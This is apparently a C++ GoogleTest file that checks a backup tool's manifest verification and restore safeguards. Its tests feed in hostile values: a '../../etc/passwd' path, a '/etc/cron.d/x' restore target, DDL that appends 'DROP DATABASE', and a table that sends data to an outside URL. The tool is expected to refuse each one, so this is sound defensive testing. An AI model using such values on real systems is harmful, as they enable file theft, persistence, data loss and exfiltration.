// The backup manifest and the checks a restore makes before touching anything
// (backup/manifest.h, backup/restore.h): checksums, missing files, paths leaving the backup, the empty-data-dir rule
// and which tables a backup holds. No servers.
#include "backup/backup.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>
#include <optional>
#include <set>
#include <vector>

#include "backup/restore.h"
#include "clickflow_source_dir.h"
#include "clickhouse/migrations.h"
#include "common/config.h"
#include "common/error.h"
#include "common/sha256.h"
#include "common/template.h"
#include "stack/state.h"

namespace clickflow::backup {
namespace {

namespace fs = std::filesystem;

class BackupManifestTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("clickflow-backup-manifest-" + std::to_string(::getpid()));
    fs::remove_all(dir_);
    fs::create_directories(dir_ / "backup" / "clickhouse");
    fs::create_directories(dir_ / "backup" / "postgres");
    fs::create_directories(dir_ / "backup" / "secrets" / "airflow");
  }
  void TearDown() override { fs::remove_all(dir_); }

  fs::path Backup() const { return dir_ / "backup"; }

  // A small but complete backup on disk, with the manifest that describes it.
  Manifest WriteSample() {
    Manifest m;
    m.clickflow_version = "0.1.0";
    m.created_at = "2026-11-29T12:00:00Z";
    m.clickhouse_version = "18.16.1";
    m.database = "analytics";
    m.compression = "none";
    auto add = [&](const std::string& path, const std::string& kind, const std::string& content,
                   const std::string& restore_to = "") {
      WriteFile(Backup() / path, content, fs::perms(0600));
      m.files.push_back({path, kind, content.size(), Sha256File(Backup() / path), restore_to});
    };
    add("clickhouse/fact_events.sql", "clickhouse-schema",
        "CREATE TABLE analytics.fact_events (x UInt8) ENGINE = MergeTree ORDER BY x\n");
    add("clickhouse/fact_events.native", "clickhouse-data", std::string("\x01\x02x\x05UInt8\x07\x08", 11));
    m.tables.push_back({"fact_events", "MergeTree", "clickhouse/fact_events.sql", "clickhouse/fact_events.native", 2});
    add("postgres/airflow.dump", "postgres", "PGDMP...");
    m.postgres_databases.push_back("airflow");
    add("secrets/airflow/fernet_key", "secret", "key\n", "airflow/fernet_key");
    WriteFile(Backup() / "manifest.json", ManifestToJson(m).dump(2), fs::perms(0600));
    return m;
  }

  fs::path dir_;
};

TEST_F(BackupManifestTest, ManifestRoundTripsThroughJsonAndVerifies) {
  const Manifest written = WriteSample();
  const Manifest read = ReadManifest(Backup());
  EXPECT_EQ(ManifestToJson(read), ManifestToJson(written));
  EXPECT_EQ(read.tables.at(0).rows, 2);
  EXPECT_EQ(read.files.size(), 4u);
  EXPECT_NO_THROW(VerifyBackup(Backup(), read));
}

TEST_F(BackupManifestTest, Sha256OfAFileIsTheStandardOne) {
  WriteFile(dir_ / "abc", "abc");
  EXPECT_EQ(Sha256File(dir_ / "abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

TEST_F(BackupManifestTest, AChangedFileIsRefusedWithItsName) {
  WriteSample();
  // Same size, one byte different: only the checksum can tell.
  WriteFile(Backup() / "clickhouse/fact_events.native", std::string("\x01\x02x\x05UInt8\x07\x09", 11));
  try {
    VerifyBackup(Backup(), ReadManifest(Backup()));
    FAIL() << "a damaged file was accepted";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("checksum mismatch"), std::string::npos) << e.what();
    EXPECT_NE(std::string(e.what()).find("fact_events.native"), std::string::npos) << e.what();
  }
}

TEST_F(BackupManifestTest, ATruncatedOrMissingFileIsRefused) {
  WriteSample();
  WriteFile(Backup() / "postgres/airflow.dump", "PGD");
  EXPECT_THROW(VerifyBackup(Backup(), ReadManifest(Backup())), Error);
  fs::remove(Backup() / "postgres/airflow.dump");
  try {
    VerifyBackup(Backup(), ReadManifest(Backup()));
    FAIL() << "a missing file was accepted";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("airflow.dump is missing"), std::string::npos) << e.what();
  }
}

TEST_F(BackupManifestTest, NoManifestMeansNoBackup) {
  try {
    ReadManifest(Backup());
    FAIL() << "a folder without manifest.json was accepted";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("no manifest.json"), std::string::npos) << e.what();
  }
  WriteFile(Backup() / "manifest.json", "{\"format\": 1}");
  EXPECT_THROW(ReadManifest(Backup()), Error);
  WriteFile(Backup() / "manifest.json", "not json");
  EXPECT_THROW(ReadManifest(Backup()), Error);
}

TEST_F(BackupManifestTest, PathsOutsideTheBackupAreRefused) {
  Manifest m = WriteSample();
  m.files.at(0).path = "../../etc/passwd";
  EXPECT_THROW(VerifyBackup(Backup(), m), Error);
  m = ReadManifest(Backup());
  m.files.back().restore_to = "/etc/cron.d/x";
  EXPECT_THROW(VerifyBackup(Backup(), m), Error);
  m = ReadManifest(Backup());
  m.tables.at(0).data_file = "clickhouse/unlisted.native";  // no checksum for it
  EXPECT_THROW(VerifyBackup(Backup(), m), Error);
}

TEST_F(BackupManifestTest, RestoreGoesOnlyIntoAnEmptyDataDir) {
  Config config;
  config.data_dir = dir_ / "target";
  config.source = "test.yaml";
  EXPECT_NO_THROW(CheckRestoreTarget(config));  // does not exist yet
  fs::create_directories(config.data_dir / "clickhouse" / "data");
  fs::create_directories(config.data_dir / "airflow");
  WriteFile(config.data_dir / "airflow" / "fernet_key", "k");
  EXPECT_NO_THROW(CheckRestoreTarget(config));  // empty data folders, no stack

  WriteFile(config.data_dir / "clickhouse" / "data" / "x", "");
  try {
    CheckRestoreTarget(config);
    FAIL() << "a data dir with ClickHouse data was accepted";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("clickhouse/data already holds data"), std::string::npos) << e.what();
  }
  fs::remove_all(config.data_dir / "clickhouse");
  fs::create_directories(config.data_dir / "postgres" / "data");
  WriteFile(config.data_dir / "postgres" / "data" / "PG_VERSION", "15\n");
  EXPECT_THROW(CheckRestoreTarget(config), Error);
  fs::remove_all(config.data_dir / "postgres");

  // A running stack: the state file names a live supervisor (this process stands in for it).
  stack::StackState state;
  state.supervisor_pid = ::getpid();
  state.state = "running";
  stack::WriteState(config.RunDir(), state);
  try {
    CheckRestoreTarget(config);
    FAIL() << "a data dir with a running stack was accepted";
  } catch (const Error& e) {
    EXPECT_NE(std::string(e.what()).find("a stack runs"), std::string::npos) << e.what();
  }
}

TEST_F(BackupManifestTest, KnownTablesAreThoseTheMigrationsCreate) {
  Migration first, second;
  first.text =
      "CREATE TABLE IF NOT EXISTS {db}.alpha (x UInt8) ENGINE = MergeTree ORDER BY x;\n"
      "create table {db}.beta AS {db}.alpha;\n";
  second.text =
      "CREATE MATERIALIZED VIEW IF NOT EXISTS {db}.mv_gamma TO {db}.alpha AS SELECT 1 AS x;\n"
      "ALTER TABLE {db}.alpha ADD COLUMN y UInt8;\n";
  EXPECT_EQ(MigrationTables({first, second}),
            (std::set<std::string>{"alpha", "beta", "mv_gamma", "schema_migrations"}));
  // The shipped migrations know every table a backup of the stack holds.
  const auto shipped = MigrationTables(LoadMigrations(fs::path(CLICKFLOW_SOURCE_DIR) / "clickhouse" / "migrations"));
  for (const char* table : {"events_browser_raw", "events_device_raw", "events_geo_raw", "events_location_raw",
                            "ingest_errors", "fact_events", "dim_users", "dim_geo", "agg_events_hourly",
                            "agg_traffic_sources", "quality_results", "dwh_build_state"}) {
    EXPECT_TRUE(shipped.count(table)) << table;
  }
}

// A restore of the sample backup into an empty data dir, with a stack that records whether it
// was started: every check on the backup must come first.
class RestoreChecksTest : public BackupManifestTest {
 protected:
  std::string RestoreError() {
    Config config;
    config.data_dir = dir_ / "target";
    config.resources_dir = CLICKFLOW_SOURCE_DIR;
    config.source = "test.yaml";
    StackControl stack;
    stack.up = [this](const Config&, const std::string&) {
      started_ = true;
      throw Error("the test's stack does not start");
    };
    stack.down = [](const Config&) {};
    // The restore tells its stack's supervisor through the environment; keep it to this test.
    const ScopedEnv env({"CLICKFLOW_STACK_AIRFLOW", "CLICKFLOW_STACK_SUPERSET", "CLICKFLOW_STACK_STREAMING"});
    try {
      RunRestore(config, Backup(), stack);
    } catch (const Error& e) {
      return e.what();
    }
    return "";
  }
  struct ScopedEnv {
    explicit ScopedEnv(std::vector<std::string> names) : names_(std::move(names)) {
      for (const auto& name : names_) {
        const char* value = std::getenv(name.c_str());
        saved_.push_back(value ? std::optional<std::string>(value) : std::nullopt);
      }
    }
    ~ScopedEnv() {
      for (size_t i = 0; i < names_.size(); ++i) {
        if (saved_[i])
          ::setenv(names_[i].c_str(), saved_[i]->c_str(), 1);
        else
          ::unsetenv(names_[i].c_str());
      }
    }
    std::vector<std::string> names_;
    std::vector<std::optional<std::string>> saved_;
  };
  bool started_ = false;
};

TEST_F(RestoreChecksTest, ATamperedFileIsRefusedBeforeTheStackStarts) {
  WriteSample();
  WriteFile(Backup() / "clickhouse/fact_events.sql",
            "CREATE TABLE analytics.fact_events (x UInt8) ENGINE = Log; DROP DATABASE analytics\n", fs::perms(0600));
  const std::string error = RestoreError();
  EXPECT_NE(error.find("clickhouse/fact_events.sql"), std::string::npos) << error;
  EXPECT_FALSE(started_);
  EXPECT_FALSE(fs::exists(dir_ / "target" / "run" / "restore-clickflow.yaml"));
}

TEST_F(RestoreChecksTest, ATableNoMigrationCreatesIsRefusedWithItsNameBeforeTheStackStarts) {
  Manifest m = WriteSample();
  const std::string ddl = "CREATE TABLE analytics.exfil ENGINE = URL('http://x/', CSV) AS SELECT 1\n";
  WriteFile(Backup() / "clickhouse/exfil.sql", ddl, fs::perms(0600));
  WriteFile(Backup() / "clickhouse/exfil.native", "", fs::perms(0600));
  for (const char* file : {"clickhouse/exfil.sql", "clickhouse/exfil.native"}) {
    m.files.push_back({file, "clickhouse", fs::file_size(Backup() / file), Sha256File(Backup() / file), ""});
  }
  m.tables.push_back({"exfil", "MergeTree", "clickhouse/exfil.sql", "clickhouse/exfil.native", 0});
  WriteFile(Backup() / "manifest.json", ManifestToJson(m).dump(2), fs::perms(0600));
  ASSERT_NO_THROW(VerifyBackup(Backup(), ReadManifest(Backup())));  // the checksums are right
  const std::string error = RestoreError();
  EXPECT_NE(error.find("analytics.exfil"), std::string::npos) << error;
  EXPECT_NE(error.find("clickhouse/exfil.sql"), std::string::npos) << error;
  EXPECT_FALSE(started_);
  // The known tables alone pass the checks and reach the stack.
  m.tables.pop_back();
  WriteFile(Backup() / "manifest.json", ManifestToJson(m).dump(2), fs::perms(0600));
  EXPECT_EQ(RestoreError(), "the test's stack does not start");
  EXPECT_TRUE(started_);
}

TEST_F(BackupManifestTest, TablesWithTheirOwnDataAreBackedUpScratchAndViewsAreNot) {
  EXPECT_TRUE(IsBackupTable("fact_events", "MergeTree"));
  EXPECT_TRUE(IsBackupTable("events_browser_raw", "MergeTree"));
  EXPECT_TRUE(IsBackupTable("agg_events_hourly", "AggregatingMergeTree"));
  EXPECT_TRUE(IsBackupTable("schema_migrations", "MergeTree"));
  EXPECT_TRUE(IsBackupTable("dwh_build_state", "MergeTree"));
  EXPECT_TRUE(IsBackupTable("custom", "ReplacingMergeTree"));
  EXPECT_FALSE(IsBackupTable("fact_events_build", "MergeTree"));
  EXPECT_FALSE(IsBackupTable("agg_events_hourly_build", "AggregatingMergeTree"));
  EXPECT_FALSE(IsBackupTable("mv_agg_events_hourly", "MaterializedView"));
  EXPECT_FALSE(IsBackupTable(".inner.mv_x", "AggregatingMergeTree"));
  EXPECT_FALSE(IsBackupTable("v", "View"));
  EXPECT_FALSE(IsBackupTable("scratch", "Memory"));
}

}  // namespace
}  // namespace clickflow::backup
